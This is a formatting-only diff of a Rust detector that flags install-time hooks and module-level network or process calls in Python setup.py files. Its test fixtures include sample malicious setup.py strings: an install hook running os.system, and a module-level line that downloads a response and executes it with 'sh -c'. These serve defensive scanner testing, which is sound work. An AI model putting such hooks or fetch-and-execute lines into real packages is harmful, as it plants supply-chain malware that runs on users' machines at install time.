@@ -32,11 +32,7 @@ static TOP_BLOCK: LazyLock<Regex> =
 /// Byte ranges of top-level `def`/`class` blocks (decorators included).
 fn top_blocks(src: &Source<'_>) -> Vec<(usize, usize)> {
     let t = src.text;
-    let starts: Vec<usize> = TOP_BLOCK
-        .find_iter(t)
-        .map(|m| m.start())
-        .filter(|&o| src.is_code(o))
-        .collect();
+    let starts: Vec<usize> = TOP_BLOCK.find_iter(t).map(|m| m.start()).filter(|&o| src.is_code(o)).collect();
     let mut out = Vec::new();
     for &s in &starts {
         // The block ends at the next column-0 code line.
@@ -44,9 +40,7 @@ fn top_blocks(src: &Source<'_>) -> Vec<(usize, usize)> {
         let mut pos = t[s..].find('\n').map_or(t.len(), |p| s + p + 1);
         while pos < t.len() {
             let c = t.as_bytes()[pos];
-            if !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'#' | b')' | b']' | b'}')
-                && src.is_code(pos)
-            {
+            if !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'#' | b')' | b']' | b'}') && src.is_code(pos) {
                 end = pos;
                 break;
             }
@@ -90,32 +84,15 @@ impl Detector for InstallHook {
         }
         let src = Source::new(file);
         let blocks = top_blocks(&src);
-        let all = sinks::find(
-            &src,
-            &[
-                SinkKind::Fetch,
-                SinkKind::Send,
-                SinkKind::Process,
-                SinkKind::Exec,
-            ],
-        );
+        let all = sinks::find(&src, &[SinkKind::Fetch, SinkKind::Send, SinkKind::Process, SinkKind::Exec]);
         let mut n = 0;
         let mut push = |hits: &mut Hits, off: usize, ind: String, sev: Severity| {
             if n < MAX_HITS_PER_FILE {
                 n += 1;
-                hits.push(
-                    &META,
-                    Hit {
-                        severity: Some(sev),
-                        evidence: pysrc::evidence(file, off, ind),
-                    },
-                );
+                hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
             }
         };
-        let has_cmdclass = file
-            .text
-            .match_indices("cmdclass")
-            .any(|(i, _)| src.is_code(i));
+        let has_cmdclass = file.text.match_indices("cmdclass").any(|(i, _)| src.is_code(i));
         if has_cmdclass {
             for c in HOOK_CLASS.captures_iter(file.text) {
                 let m = c.get(0).expect("m");
@@ -123,36 +100,20 @@ impl Detector for InstallHook {
                     continue;
                 }
                 let cmd = c.name("cmd").expect("cmd").as_str().trim_start_matches('_');
-                let end = blocks
-                    .iter()
-                    .find(|b| b.0 <= m.start() && m.start() < b.1)
-                    .map_or(file.text.len(), |b| b.1);
-                let inside: Vec<_> = all
-                    .iter()
-                    .filter(|s| s.offset > m.start() && s.offset < end)
-                    .collect();
+                let end = blocks.iter().find(|b| b.0 <= m.start() && m.start() < b.1).map_or(file.text.len(), |b| b.1);
+                let inside: Vec<_> = all.iter().filter(|s| s.offset > m.start() && s.offset < end).collect();
                 if inside.is_empty() {
                     push(hits, m.start(), format!("cmdclass {cmd}"), Severity::Medium);
                 } else {
                     for s in inside {
-                        push(
-                            hits,
-                            s.offset,
-                            format!("{cmd} hook: {}", s.name),
-                            Severity::Critical,
-                        );
+                        push(hits, s.offset, format!("{cmd} hook: {}", s.name), Severity::Critical);
                     }
                 }
             }
         }
         let module_level = |o: usize| !blocks.iter().any(|b| b.0 <= o && o < b.1);
-        let top: Vec<_> = all
-            .iter()
-            .filter(|s| s.kind != SinkKind::Exec && module_level(s.offset))
-            .collect();
-        let net = top
-            .iter()
-            .any(|s| matches!(s.kind, SinkKind::Fetch | SinkKind::Send));
+        let top: Vec<_> = all.iter().filter(|s| s.kind != SinkKind::Exec && module_level(s.offset)).collect();
+        let net = top.iter().any(|s| matches!(s.kind, SinkKind::Fetch | SinkKind::Send));
         let proc_ = top.iter().any(|s| s.kind == SinkKind::Process);
         for s in top {
             let sev = match (net && proc_, s.kind) {
@@ -174,9 +135,9 @@ mod tests {
 
     const BARE: &str = "from setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        print('thanks')\n\nsetup(name='x', cmdclass={'install': PostInstall})\n";
     const EVIL: &str = "import os\nfrom setuptools.command.install import install\nclass Evil(install):\n    def run(self):\n        os.system('id')\n        install.run(self)\nsetup(cmdclass={'install': Evil})\n";
-    const TOP_NET: &str =
-        "import urllib.request\nurllib.request.urlopen('http://example.org/x')\nsetup(name='x')\n";
-    const BOTH: &str = "import subprocess, requests\nr = requests.get(U)\nsubprocess.call(['sh', '-c', r.text])\nsetup()\n";
+    const TOP_NET: &str = "import urllib.request\nurllib.request.urlopen('http://example.org/x')\nsetup(name='x')\n";
+    const BOTH: &str =
+        "import subprocess, requests\nr = requests.get(U)\nsubprocess.call(['sh', '-c', r.text])\nsetup()\n";
     const GIT: &str = "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\nsetup(version=version())\n";
 
     #[test]
@@ -185,20 +146,8 @@ mod tests {
             &InstallHook,
             META.id,
             &[
-                (
-                    "bare hook",
-                    "pkg-1.0/setup.py",
-                    InstallTime,
-                    BARE,
-                    Some((4, "cmdclass install", Medium)),
-                ),
-                (
-                    "hook with process",
-                    "setup.py",
-                    InstallTime,
-                    EVIL,
-                    Some((5, "install hook: os.system", Critical)),
-                ),
+                ("bare hook", "pkg-1.0/setup.py", InstallTime, BARE, Some((4, "cmdclass install", Medium))),
+                ("hook with process", "setup.py", InstallTime, EVIL, Some((5, "install hook: os.system", Critical))),
                 (
                     "module-level network",
                     "setup.py",
@@ -213,20 +162,8 @@ mod tests {
                     BOTH,
                     Some((2, "module-level requests.get", Critical)),
                 ),
-                (
-                    "git describe in a function",
-                    "setup.py",
-                    InstallTime,
-                    GIT,
-                    None,
-                ),
-                (
-                    "hook class without cmdclass",
-                    "setup.py",
-                    InstallTime,
-                    "class X(install):\n    pass\n",
-                    None,
-                ),
+                ("git describe in a function", "setup.py", InstallTime, GIT, None),
+                ("hook class without cmdclass", "setup.py", InstallTime, "class X(install):\n    pass\n", None),
                 ("not setup.py", "pkg/install.py", Runtime, EVIL, None),
                 (
                     "cmdclass in a comment only",
